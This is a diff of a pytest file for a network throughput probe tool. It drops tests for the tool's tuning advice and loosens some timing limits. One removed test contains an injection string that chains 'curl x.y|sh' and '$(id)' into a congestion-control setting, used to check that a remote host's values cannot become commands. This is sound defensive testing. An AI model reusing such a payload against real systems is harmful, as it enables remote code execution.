@@ -1,4 +1,4 @@
-"""`pccl probe`: what it concludes, what it measures on loopback, what strangers can do to it."""
+"""`pccl probe`: what it measures on loopback, what strangers can do to it, what is typed wrong."""
 
 from __future__ import annotations
 
@@ -11,19 +11,16 @@ import sys
 import threading
 import time
 from collections.abc import Callable, Iterator
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from world import Master, free_port, run_program
 
-from pccl_backend.probe import advice, command, settings, wire
-from pccl_backend.probe.advice import Row, Way
-from pccl_backend.probe.client import Client, Plan, ProbeError, Rate
+from pccl_backend.probe import command, settings, wire
+from pccl_backend.probe.client import Client, Plan, ProbeError
 from pccl_backend.probe.flow import Flow, Span
-from pccl_backend.probe.report import model_lines, setting_lines, summary
 from pccl_backend.probe.server import STRANGERS_MAX, Server
-from pccl_backend.probe.settings import Buffers, HostSettings
+from pccl_backend.probe.settings import HostSettings
 from pccl_backend.probe.wire import Channel, Trial, WireError, hello
 
 PROBE = [sys.executable, "-m", "pccl_backend.cli", "probe"]
@@ -86,189 +83,6 @@ def measures(address: tuple[str, int]) -> None:
     with connection:
         channel.send({"type": "ping"})
         channel.expect("pong")
-
-
-# --- What the figures mean ------------------------------------------------------------------------
-
-BUFFERS = Buffers(least=4096, first=16384, most=4 << 20)
-LARGE = Buffers(least=4096, first=16384, most=64 << 20)
-TUNED = HostSettings(
-    congestion="bbr",
-    available=("reno", "cubic", "bbr"),
-    allowed=("reno", "cubic", "bbr"),
-    wmem=LARGE,
-    rmem=LARGE,
-    slow_start_after_idle=False,
-)
-
-
-def rows(*rates: float) -> list[Row]:
-    return [Row(streams=2**i, there=rate, back=rate) for i, rate in enumerate(rates)]
-
-
-def way(*rates: float, **changes: object) -> Way:
-    known = Way(round_trip=0.1, rows=rows(*rates), here=TUNED, there=TUNED)
-    return replace(known, **changes)  # type: ignore[arg-type]
-
-
-def test_the_knee_is_the_fewest_that_carry_nine_tenths() -> None:
-    assert advice.knee_of(rows(100, 190, 899, 900, 1000, 950)).streams == 8
-    assert advice.knee_of(rows(100)).streams == 1
-    assert advice.knee_of(list(reversed(rows(95, 100, 99)))).streams == 1
-
-
-def test_what_counts_is_the_slower_direction_both_ways_at_once() -> None:
-    row = Row(streams=1, there=900, back=800)
-    assert row.carried == 800
-    assert replace(row, both_there=500, both_back=600).carried == 500
-
-
-def test_rates_become_rows() -> None:
-    both = Rate(streams=2, direction="both", there=3, back=4, busy=0.7)
-    rates = [
-        Rate(streams=2, direction="there", there=1, back=None, busy=0.2),
-        Rate(streams=2, direction="back", there=None, back=2, busy=0.1),
-    ]
-    expected = Row(streams=2, there=1, back=2, both_there=3, both_back=4, busy=0.7)
-    assert advice.rows_of([*rates, both]) == [expected]
-    assert advice.rows_of(rates) == [Row(streams=2, there=1, back=2, busy=0.2)]
-
-
-def test_seconds_per_all_reduce() -> None:
-    assert advice.seconds_per_all_reduce(4e9, 1000, 2) == pytest.approx(32)
-    assert advice.seconds_per_all_reduce(4e9, 1000, 4) == pytest.approx(48)
-    assert advice.seconds_per_all_reduce(4e9, 1000, None) == pytest.approx(64)
-    text = "\n".join(model_lines(way(500, 1000), 1e9, 4))
-    assert "1,000,000,000 parameters, 4 bytes each: S = 4 GB" in text
-    assert "2(N-1)/N * S / rate" in text
-    assert "world 2: 32 s; N large: 64 s" in text
-
-
-def test_a_tuned_pair_of_hosts_needs_nothing() -> None:
-    assert advice.advise(way(100, 200, 400)) == []
-    text = "\n".join(summary(way(100, 200, 400)))
-    assert "PCCL_LANES needs no setting: pccl opens 64" in text
-    assert "What may help" not in text
-
-
-def test_unknown_settings_give_no_advice() -> None:
-    unknown = HostSettings()
-    assert advice.advise(way(100, 200, 400, here=unknown, there=unknown)) == []
-    assert "unknown" in "\n".join(setting_lines(unknown, TUNED))
-
-
-def test_small_buffers_are_named_with_the_line_to_type() -> None:
-    small = replace(TUNED, wmem=BUFFERS)
-    [text] = advice.advise(way(100, 200, 400, 800, here=small))
-    assert "tcp_wmem of this host ends at 4.0 MiB" in text
-    assert "one stream carries about 168 Mbit/s" in text  # 2 MiB every 100 ms
-    assert "9.5 MiB under way" in text  # 800 Mbit/s times 100 ms
-    assert 'sudo sysctl -w net.ipv4.tcp_wmem="4096 16384 33554432"' in text
-    assert "pccl's 64 lanes make up for it" in text
-    [text] = advice.advise(way(100, 200, 400, 800, there=replace(TUNED, rmem=BUFFERS)))
-    assert "tcp_rmem of the other host" in text
-    [text] = advice.advise(way(200, 400, 800, here=small))
-    assert "one stream carries about 200 Mbit/s" in text, "what was measured is no less than that"
-
-
-def test_what_is_true_of_both_hosts_is_said_once() -> None:
-    small = replace(TUNED, wmem=BUFFERS, congestion="cubic", allowed=("reno", "cubic"))
-    small = replace(small, slow_start_after_idle=True)
-    texts = advice.advise(way(100, 200, 400, 800, here=small, there=small))
-    assert len(texts) == 3
-    assert all("both hosts" in text for text in texts)
-
-
-def test_buffers_are_held_against_the_direction_they_serve() -> None:
-    fast_back = [Row(streams=1, there=10, back=100), Row(streams=2, there=20, back=2000)]
-    small = replace(TUNED, wmem=BUFFERS)
-    assert advice.advise(way(rows=fast_back, here=small)) == []
-    [text] = advice.advise(way(rows=fast_back, there=small))
-    assert "tcp_wmem of the other host" in text
-
-
-def test_buffers_do_not_matter_where_one_stream_carries_all_or_the_way_is_near() -> None:
-    small = replace(TUNED, wmem=BUFFERS)
-    assert advice.advise(way(790, 800, here=small)) == []
-    assert advice.advise(way(8000, 9000, here=small, round_trip=1e-4)) == []
-
-
-@pytest.mark.parametrize(
-    ("available", "allowed", "says"),
-    [
-        (("cubic",), ("cubic",), "sudo modprobe tcp_bbr"),
-        (("cubic", "bbr"), ("cubic",), 'tcp_allowed_congestion_control="cubic bbr"'),
-        (("cubic", "bbr"), ("cubic", "bbr"), "measure with PCCL_TCP_CONGESTION=bbr"),
-    ],
-)
-def test_congestion_control(
-    available: tuple[str, ...], allowed: tuple[str, ...], says: str
-) -> None:
-    cubic = replace(TUNED, congestion="cubic", available=available, allowed=allowed)
-    [text] = advice.advise(way(100, 200, there=cubic))
-    assert "congestion control of the other host: cubic" in text
-    assert says in text
-    assert advice.advise(way(100, 200, there=cubic, congestion="bbr")) == []
-    assert advice.advise(way(100, 200, there=cubic, round_trip=1e-4, rows=rows(100))) == []
-
-
-def test_slow_start_after_idle_is_named_with_what_it_costs() -> None:
-    anew = replace(TUNED, slow_start_after_idle=True)
-    assert advice.advise(way(1000, here=anew)) == []  # bbr may be borrowed
-    [text] = advice.advise(way(1000, here=replace(anew, allowed=("reno", "cubic"))))
-    assert "this host" in text
-    # 12.5 MB under way are 8,633 segments: ten doublings of ten.
-    assert "about 10 round trips (1 s)" in text
-    assert "sudo sysctl -w net.ipv4.tcp_slow_start_after_idle=0" in text
-
-
-def test_lanes_are_named_only_beyond_what_pccl_opens() -> None:
-    assert advice.advise(way(1, 2, 4, 8, 16, 32)) == []
-    assert advice.advise(way(1, 2, 4, 8, 16, 32, 64)) == []
-    [text] = advice.advise(way(1, 2, 4, 8, 16, 32, 64, 128))
-    assert "the knee is at 128 streams" in text
-    assert "PCCL_LANES=" not in text, "it goes no further than 64"
-    [text] = advice.advise(way(100, 200, round_trip=1e-4))
-    assert "PCCL_LANES=2" in text
-    assert advice.advise(way(100, 115, round_trip=1e-4)) == [], "may be chance"
-
-
-def test_a_busy_core_is_named() -> None:
-    [text] = advice.advise(way(rows=[replace(rows(100)[0], busy=0.97)]))
-    assert "97 % of a core" in text
-
-
-def test_settings_are_read_and_what_is_missing_is_unknown(tmp_path: Path) -> None:
-    (tmp_path / "tcp_wmem").write_text("4096\t16384\t4194304\n")
-    (tmp_path / "tcp_slow_start_after_idle").write_text("1\n")
-    known = HostSettings.from_texts(settings.read(tmp_path))
-    assert known == HostSettings(wmem=BUFFERS, slow_start_after_idle=True)
-    assert HostSettings.from_texts(settings.read(tmp_path / "nowhere")) == HostSettings()
-
-
-def test_words_of_another_host_cannot_become_commands() -> None:
-    theirs = HostSettings.from_texts(
-        {"tcp_allowed_congestion_control": 'cubic";curl${IFS}x.y|sh;" reno $(id) bbr'}
-    )
-    assert theirs.allowed == ("reno", "bbr")
-
-
-def test_a_model_takes_what_pccl_opens_by_itself() -> None:
-    near = way(100, 1600, round_trip=1e-4)
-    [_, seconds] = model_lines(near, 1e9, 4)
-    one = advice.seconds_per_all_reduce(4e9, near.rows[0].carried, 2)
-    assert near.rows[0].carried < near.rows[1].carried
-    assert f"world 2: {one:,.3g} s" in seconds
-
-
-@pytest.mark.parametrize("texts", [None, [1], {"tcp_wmem": 3}, {"tcp_rmem": "1 2"}, {"x": "y"}])
-def test_nonsense_is_unknown(texts: object) -> None:
-    assert HostSettings.from_texts(texts) == HostSettings()
-
-
-def test_what_the_other_host_says_cannot_steer_a_terminal() -> None:
-    told = HostSettings.from_texts({"tcp_congestion_control": "\x1b[2Jcubic"})
-    assert "\x1b" not in "\n".join(setting_lines(TUNED, told))
 
 
 # --- Bytes and lines ------------------------------------------------------------------------------
@@ -352,7 +166,7 @@ def test_a_line_that_trickles_is_not_waited_for_longer() -> None:
             Channel(stream).receive(0.3)
         over.set()
         thread.join(WAIT_S)
-        assert time.monotonic() - began_at < 2
+        assert time.monotonic() - began_at < WAIT_S
 
 
 BAD_TRIALS = [
@@ -391,9 +205,10 @@ def test_numbers_of_the_other_end_are_bounded(value: object) -> None:
 
 
 def test_measures_every_direction(address: tuple[str, int]) -> None:
-    plan = Plan(streams=(1, 3), seconds=0.2, directions=("there", "back", "both"))
+    # Each long enough for its first bytes on a machine whose cores stand still for half a second.
+    plan = Plan(streams=(1, 3), seconds=2, directions=("there", "back", "both"))
     with Client(*address) as client:
-        assert 0 < client.round_trip() < 1
+        assert 0 < client.round_trip() < WAIT_S
         rates = list(client.measure(plan, round_trip=0.1))
     assert [(rate.streams, rate.direction) for rate in rates] == [
         (streams, direction) for streams in (1, 3) for direction in ("there", "back", "both")
@@ -414,7 +229,7 @@ def test_the_commands(tmp_path: Path) -> None:
             assert server.stdout
             words = server.stdout.readline().split()
             assert words[:3] == ["pccl", "probe", "listening"]
-            options = ["--streams", "1,2", "--seconds", "0.2", "--plot", str(picture)]
+            options = ["--streams", "1,2", "--seconds", "2", "--plot", str(picture)]
             done = run_program([*PROBE, words[-1], *options], timeout=30)
             assert done.returncode == 0, done.stderr
             for text in ("ms there and back", "6 measurements", "Knee: ", "world 2: ", "tcp_wmem"):
